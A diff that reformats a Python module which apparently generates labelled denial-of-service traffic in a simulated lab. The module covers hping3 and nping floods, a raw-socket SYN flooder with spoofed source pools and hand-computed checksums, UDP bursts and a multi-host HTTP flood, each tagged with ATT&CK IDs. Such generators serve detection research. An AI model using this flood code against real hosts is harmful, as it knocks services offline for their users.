@@ -17,7 +17,9 @@ SPOOFED = "100.96.0.0/12"
 
 def _victim(stage: Stage, me: Host, rng: random.Random) -> tuple[Host, int]:
     services = [("server", 80), ("exposed", 80), ("broker", 1883), ("nas", 22), ("recorder", 554)]
-    return rng.choice([(stage.one(role), port) for role, port in services if stage.one(role) is not me])
+    return rng.choice(
+        [(stage.one(role), port) for role, port in services if stage.one(role) is not me]
+    )
 
 
 def hping(
@@ -34,7 +36,17 @@ def hping(
     victim, port = _victim(stage, me, rng)
     port = rng.choice((53, 123, 9999, port)) if kind == "udp" else port
     flags = {"syn": ["-S"], "udp": ["--udp", "-d", "300"], "ack": ["-A"], "icmp": ["--icmp"]}[kind]
-    command = ["hping3", "-q", "-n", *flags, "-c", str(count), "-i", f"u{1_000_000 // rate}", victim.address]
+    command = [
+        "hping3",
+        "-q",
+        "-n",
+        *flags,
+        "-c",
+        str(count),
+        "-i",
+        f"u{1_000_000 // rate}",
+        victim.address,
+    ]
     command += [] if kind == "icmp" else ["-p", str(port)]
     command += {"own": [], "random": ["--rand-source"]}[source]
     proto = {"syn": "tcp", "ack": "tcp"}.get(kind, kind)
@@ -48,12 +60,25 @@ def hping(
         stage.note(f"{name}: {stage.tool(command, count / rate + 20)[-300:]}")
 
 
-def raw(stage: Stage, me: Host, rng: random.Random, *, count: int = 2500, rate: int = 250, sources: int = 400) -> None:
+def raw(
+    stage: Stage,
+    me: Host,
+    rng: random.Random,
+    *,
+    count: int = 2500,
+    rate: int = 250,
+    sources: int = 400,
+) -> None:
     """A SYN flooder of its own with a pool of false sources; sends in bursts."""
     victim, port = _victim(stage, me, rng)
-    pool = [f"100.{rng.randrange(96, 112)}.{rng.randrange(256)}.{rng.randrange(1, 255)}" for _ in range(sources)]
+    pool = [
+        f"100.{rng.randrange(96, 112)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
+        for _ in range(sources)
+    ]
     with (
-        stage.activity("flood", "T1498.001", "SYN flood, pool of sources", [SPOOFED], [victim], "tcp", [port]),
+        stage.activity(
+            "flood", "T1498.001", "SYN flood, pool of sources", [SPOOFED], [victim], "tcp", [port]
+        ),
         socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as link,
     ):
         for number in range(count):
@@ -65,7 +90,9 @@ def raw(stage: Stage, me: Host, rng: random.Random, *, count: int = 2500, rate: 
 def _syn(source: str, target: str, port: int, rng: random.Random) -> bytes:
     """An IPv4 SYN with right checksums (the kernel fills IP's)."""
     ends = socket.inet_aton(source) + socket.inet_aton(target)
-    tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65536), port, rng.randrange(2**32), 0, 0x50, 2, 5840, 0, 0)
+    tcp = struct.pack(
+        "!HHIIBBHHH", rng.randrange(1024, 65536), port, rng.randrange(2**32), 0, 0x50, 2, 5840, 0, 0
+    )
     words = sum(struct.unpack("!16H", ends + struct.pack("!BBH", 0, 6, 20) + tcp))
     words = (words & 0xFFFF) + (words >> 16)
     check = ~((words & 0xFFFF) + (words >> 16)) & 0xFFFF
@@ -74,26 +101,42 @@ def _syn(source: str, target: str, port: int, rng: random.Random) -> bytes:
 
 
 def udp_burst(
-    stage: Stage, me: Host, rng: random.Random, *, count: int = 3000, rate: int = 300, size: int = 400
+    stage: Stage,
+    me: Host,
+    rng: random.Random,
+    *,
+    count: int = 3000,
+    rate: int = 300,
+    size: int = 400,
 ) -> None:
     """A UDP flood as bots send it: one socket, fixed size, to one or to random ports."""
     victim, _ = _victim(stage, me, rng)
     spread = rng.random() < 0.5
     port = rng.randrange(1024, 60000)
     with (
-        stage.activity("flood", "T1498.001", "UDP flood", [me], [victim], "udp", None if spread else [port]),
+        stage.activity(
+            "flood", "T1498.001", "UDP flood", [me], [victim], "udp", None if spread else [port]
+        ),
         stage.activity("flood", "T1498.001", "UDP flood refused", [me], [victim], "icmp", None),
         socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link,
     ):
         for number in range(count):
             with suppress(OSError):
-                link.sendto(wire.filler(size), (victim.address, rng.randrange(1, 65536) if spread else port))
+                link.sendto(
+                    wire.filler(size), (victim.address, rng.randrange(1, 65536) if spread else port)
+                )
             if number % 10 == 9:
                 stage.sleep(10 / rate)
 
 
 def requests(
-    stage: Stage, me: Host, rng: random.Random, *, count: int = 1200, rate: int = 80, attackers: int = 3
+    stage: Stage,
+    me: Host,
+    rng: random.Random,
+    *,
+    count: int = 1200,
+    rate: int = 80,
+    attackers: int = 3,
 ) -> None:
     """An HTTP flood by several hosts at once: connections that ask for the largest page."""
     victim = stage.one(rng.choice(("server", "exposed")))
@@ -102,7 +145,9 @@ def requests(
     with stage.activity("flood", "T1499.002", "HTTP flood", list(crew), [victim], "tcp", [80]):
         share = count // len(crew)
         for host in crew[1:]:
-            stage.start(host, lambda: _requests(stage, victim, share, rate / len(crew)), "HTTP flood")
+            stage.start(
+                host, lambda: _requests(stage, victim, share, rate / len(crew)), "HTTP flood"
+            )
         _requests(stage, victim, share, rate / len(crew))
         stage.sleep(1)
 
@@ -114,11 +159,30 @@ def _requests(stage: Stage, victim: Host, count: int, rate: float) -> None:
         stage.sleep(1 / rate)
 
 
-def nping(stage: Stage, me: Host, rng: random.Random, *, kind: str = "tcp", count: int = 2000, rate: int = 250) -> None:
+def nping(
+    stage: Stage,
+    me: Host,
+    rng: random.Random,
+    *,
+    kind: str = "tcp",
+    count: int = 2000,
+    rate: int = 250,
+) -> None:
     """nping (of nmap): SYNs or datagrams at a steady rate."""
     victim, port = _victim(stage, me, rng)
     shape = ["--tcp", "--flags", "syn"] if kind == "tcp" else ["--udp", "--data-length", "200"]
-    command = ["nping", "-q", *shape, "-p", str(port), "-c", str(count), "--rate", str(rate), "--no-capture"]
+    command = [
+        "nping",
+        "-q",
+        *shape,
+        "-p",
+        str(port),
+        "-c",
+        str(count),
+        "--rate",
+        str(rate),
+        "--no-capture",
+    ]
     with (
         stage.activity("flood", "T1498.001", f"nping {kind}", [me], [victim], kind, [port]),
         stage.activity("flood", "T1498.001", f"nping {kind} refused", [me], [victim], "icmp", None),
